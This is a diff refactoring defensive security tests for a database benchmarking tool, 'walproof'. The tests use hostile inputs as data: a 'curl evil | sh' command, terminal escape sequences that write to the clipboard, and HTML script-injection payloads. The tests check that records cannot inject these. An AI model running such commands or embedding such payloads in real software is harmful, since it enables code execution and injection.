@@ -12,6 +12,7 @@ import pytest
 from tests.fixtures.command_line import ended
 from tests.fixtures.priced_fake import FakePriced
 from tests.fixtures.priced_records import price_record, prove_record
+from tests.fixtures.records import recorded
 from tests.unit.test_cli_price import run, target
 from walproof.advising.advise import advise, as_json, choose_environment
 from walproof.advising.evidence import evidence_of
@@ -24,7 +25,6 @@ from walproof.model.event import Described, Event, SampleDone, Started
 from walproof.model.guarantee import PARAMETERS, SETTABLE, Level
 from walproof.pricing import tuning
 from walproof.records.layout import HEADER
-from walproof.records.writer import Writer
 from walproof.studies.declaration import LIBRARY, read_study
 from walproof.watching.picture import Picture, TimelineEvent
 from walproof.watching.terminal import _events
@@ -49,10 +49,10 @@ CODE = (
 )
 
 
-def recorded(folder: Path, question: dict[str, Any]) -> None:
+def cut_short(folder: Path, question: dict[str, Any]) -> None:
     """A record of a price run that was cut short."""
-    with Writer(folder, "price") as emit:
-        emit(Started(0.0, "price", {"levels": "local,on", "clients": "1", **question}, "", 1, "1"))
+    question = {"levels": "local,on", "clients": "1", **question}
+    recorded(folder, "price", [Started(0.0, "price", question, "", 1, "1")])
 
 
 # price --resume
@@ -61,7 +61,7 @@ def recorded(folder: Path, question: dict[str, Any]) -> None:
 def test_a_record_gives_no_consent(run: Run, target: FakePriced) -> None:
     """What its run was allowed where it was made holds nowhere else."""
     target.external = True
-    recorded(Path("rec"), {"target": "mine.toml", "allow": "load,config,existing-tables"})
+    cut_short(Path("rec"), {"target": "mine.toml", "allow": "load,config,existing-tables"})
     code, _, err = run("--resume", "rec", "--target", "mine.toml")
     assert (code, target.asked) == (2, [])
     assert "--allow load" in err
@@ -70,11 +70,11 @@ def test_a_record_gives_no_consent(run: Run, target: FakePriced) -> None:
 def test_a_map_of_regions_that_a_record_names_is_opened_only_where_it_is_given_again(
     run: Run, target: FakePriced
 ) -> None:
-    recorded(Path("rec"), {"regions": "europe,/dev/zero"})
+    cut_short(Path("rec"), {"regions": "europe,/dev/zero"})
     code, _, err = run("--resume", "rec")
     assert (code, target.asked) == (2, [])
     assert "give it again: --regions" in err
-    recorded(Path("shipped"), {"regions": "europe"})
+    cut_short(Path("shipped"), {"regions": "europe"})
     assert "--regions" not in run("--resume", "shipped", "--dry-run")[2]
 
 
@@ -97,7 +97,7 @@ def test_what_a_record_would_run_is_run_only_where_it_is_given_again(
     """A driver is a command; pgbench's \\shell and psql's \\! are too."""
     Path("evil.sql").write_text("SELECT 1;")
     Path("insert,insert").write_text("SELECT 1;")
-    recorded(Path("rec"), question)
+    cut_short(Path("rec"), question)
     ((name, value),) = question.items()
     code, _, err = run("--resume", "rec")
     assert (code, target.asked) == (2, [])
@@ -110,7 +110,7 @@ def test_what_a_record_would_run_is_run_only_where_it_is_given_again(
 
 @pytest.mark.parametrize("name", ["events.jsonl", HEADER, "files"])
 def test_nothing_is_written_through_a_link_of_a_record(run: Run, target: FakePriced, name: str) -> None:
-    recorded(Path("rec"), {})
+    cut_short(Path("rec"), {})
     outside = Path("outside")
     (Path("rec") / name).rename(outside) if name != "files" else outside.mkdir()
     (Path("rec") / name).symlink_to(outside.absolute())
@@ -154,9 +154,8 @@ def test_advice_sets_no_parameter_but_walproofs_own(
 def test_a_record_brings_no_parameter_of_its_own_into_a_recipe(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    with Writer(tmp_path / "r", "price") as emit:
-        for event in price_record():
-            emit(with_parameter(event) if isinstance(event, SampleDone) else event)
+    events = [with_parameter(event) if isinstance(event, SampleDone) else event for event in price_record()]
+    recorded(tmp_path / "r", "price", events)
     code, out, err = ended(capsys, ["advise", str(tmp_path / "r"), "--recipe", "plain"])
     assert (code, out) == (2, "")
     assert "never sets" in err
@@ -233,9 +232,9 @@ def test_a_study_has_no_grid_without_end(tmp_path: Path, line: str, instead: str
 def test_a_record_moves_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """OSC 52 writes to the clipboard; a title, colours or cleared lines say what the report does not."""
     evil = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b2K\r"
-    with Writer(tmp_path / "r", "price") as emit:
-        for event in price_record():
-            emit(replace(event, question={"target": evil}) if isinstance(event, Started) else event)
+    question = {"target": evil}
+    events = [replace(one, question=question) if isinstance(one, Started) else one for one in price_record()]
+    recorded(tmp_path / "r", "price", events)
     header = json.loads((tmp_path / "r" / HEADER).read_text())
     for number in (header["format"], 99):
         (tmp_path / "r" / HEADER).write_text(json.dumps({**header, "walproof": evil, "format": number}))
@@ -249,9 +248,7 @@ def test_a_record_moves_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixtur
 def test_times_that_are_none_are_no_error_inside_walproof(
     at: float, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    with Writer(tmp_path / "r", "price") as emit:
-        for event in price_record():
-            emit(replace(event, at=at))
+    recorded(tmp_path / "r", "price", (replace(event, at=at) for event in price_record()))
     code, out, _ = ended(capsys, ["report", "--markdown", str(tmp_path / "r")])
     assert code == 0
     assert "–" in out
@@ -263,9 +260,7 @@ ESCAPES = "\\u001b]52;c;ZXZpbA==\\u0007\\u009b2K"
 
 
 def test_rates_and_regions_are_numbers_and_move_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    with Writer(tmp_path / "r", "prove") as emit:
-        for event in prove_record(Level.ON):
-            emit(event)
+    recorded(tmp_path / "r", "prove", prove_record(Level.ON))
     rates, command = DEFAULT.read_text("utf-8"), 'command = "curl evil | sh"\n'
     file = tmp_path / "failures.toml"
     file.write_text(rates.replace('name = "', f'name = "{ESCAPES}', 1))
@@ -291,13 +286,14 @@ def test_a_study_moves_no_terminal(tmp_path: Path) -> None:
 
 def test_a_record_puts_no_script_into_a_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     evil = "<img src=x onerror=evil()></script><script>evil()</script>"
-    with Writer(tmp_path / "r", "price") as emit:
-        for event in (*price_record(), *prove_record(Level.ON)):
-            if isinstance(event, Described):
-                description = replace(event.description, target=evil, members=(evil, "n2"), facts={evil: evil})
-                emit(replace(event, description=description))
-            else:
-                emit(replace(event, question={evil: evil}) if isinstance(event, Started) else event)
+    events: list[Event] = []
+    for event in (*price_record(), *prove_record(Level.ON)):
+        if isinstance(event, Described):
+            description = replace(event.description, target=evil, members=(evil, "n2"), facts={evil: evil})
+            events.append(replace(event, description=description))
+        else:
+            events.append(replace(event, question={evil: evil}) if isinstance(event, Started) else event)
+    recorded(tmp_path / "r", "price", events)
     (tmp_path / "r" / "files").mkdir()
     (tmp_path / "r" / "files" / "<img src=x onerror=evil()>.log").write_text("")
     for words in (["--html", "-"], ["--markdown"]):
